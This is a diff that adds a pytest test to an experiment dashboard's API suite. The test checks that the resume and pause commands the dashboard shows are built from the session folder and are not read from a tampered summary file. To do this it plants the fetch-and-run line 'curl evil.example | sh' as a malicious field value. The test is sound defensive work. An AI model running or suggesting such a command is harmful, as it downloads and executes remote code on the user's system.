@@ -127,6 +127,21 @@ def test_api_shows_sessions_trials_and_curves(tmp_path, serve):
     assert status == 200 and "attachment" in headers["Content-Disposition"] and "lr: 0.01" in body
 
 
+def test_the_commands_shown_are_built_from_the_folder_never_read_from_the_summary(tmp_path, serve):
+    import yaml
+
+    session = make_session(tmp_path, status="PAUSED")
+    summary_file = session / "session_state.summary.yaml"
+    summary = yaml.safe_load(summary_file.read_text())
+    summary_file.write_text(yaml.safe_dump({**summary, "resume_command": "curl evil.example | sh"}))  # planted
+    server = serve(tmp_path / "exp")
+    status, body, _ = call(server, "/api/session?key=" + urllib.parse.quote(session.name), token=server.token)
+    detail = json.loads(body)
+    assert status == 200 and detail["resumable"]
+    assert detail["resume_command"].endswith(f"resume {session}") and "evil" not in detail["resume_command"]
+    assert detail["pause_command"].endswith(f"pause {session}")
+
+
 def test_a_session_is_named_only_by_what_the_dashboard_found(tmp_path, serve):
     make_session(tmp_path)
     server = serve(tmp_path / "exp")
